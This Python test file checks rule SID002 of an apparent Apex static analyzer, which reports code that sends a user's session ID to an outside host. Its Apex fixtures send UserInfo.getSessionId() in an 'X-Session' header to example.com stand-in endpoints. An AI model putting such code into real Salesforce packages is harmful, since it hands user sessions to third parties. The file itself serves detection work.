"""SID002 gives one finding a request, however many places its endpoint may be."""

from __future__ import annotations

from pathlib import Path

from apexlint.engine import ScanOptions, scan
from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package

CLIENT = """public with sharing class Client {
    public static void push(Boolean mirror) {
        HttpRequest req = new HttpRequest();
        String host = mirror ? 'https://mirror.example.com' : 'https://api.example.com';
        if (mirror == null) {
            host = Settings__c.getOrgDefaults().Host__c;
        }
        req.setEndpoint(host + '/in');
        req.setHeader('X-Session', UserInfo.getSessionId());
        new Http().send(req);
    }
}
"""


def _exports(tmp_path: Path) -> list[tuple[int, str, tuple[tuple[str, str], ...]]]:
    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/Client.cls": CLIENT.encode()})
    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    return [(f.location.span.start_line, f.message, f.properties) for f in result.findings if f.rule_id == "SID002"]


def test_one_finding_names_the_surest_place_first_and_the_others_after(tmp_path: Path) -> None:
    [(line, message, properties)] = _exports(tmp_path)
    assert line == 10
    assert "to https://api.example.com/in (api.example.com: not this org)" in message
    assert message.endswith("; the request may also go to https://mirror.example.com/in, <configured value>/in"
                            " (Client.push has no callers in the package outside tests)")
    assert dict(properties)["endpoint"] == "https://api.example.com/in"
    assert dict(properties)["confidence"] == "high"


def test_a_method_the_platform_calls_is_not_said_to_have_no_callers(tmp_path: Path) -> None:
    """`Queueable.execute` has no caller in the code, but it is no dead code: the platform runs it."""
    job = """public with sharing class ExportJob implements Queueable, Database.AllowsCallouts {
    public void execute(QueueableContext ctx) {
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://hooks.example.com/job');
        req.setHeader('X-Session', UserInfo.getSessionId());
        new Http().send(req);
    }
}
"""
    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/ExportJob.cls": job.encode()})
    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    [export] = [f for f in result.findings if f.rule_id == "SID002"]
    assert export.message.endswith("(hooks.example.com: not this org)"), export.message
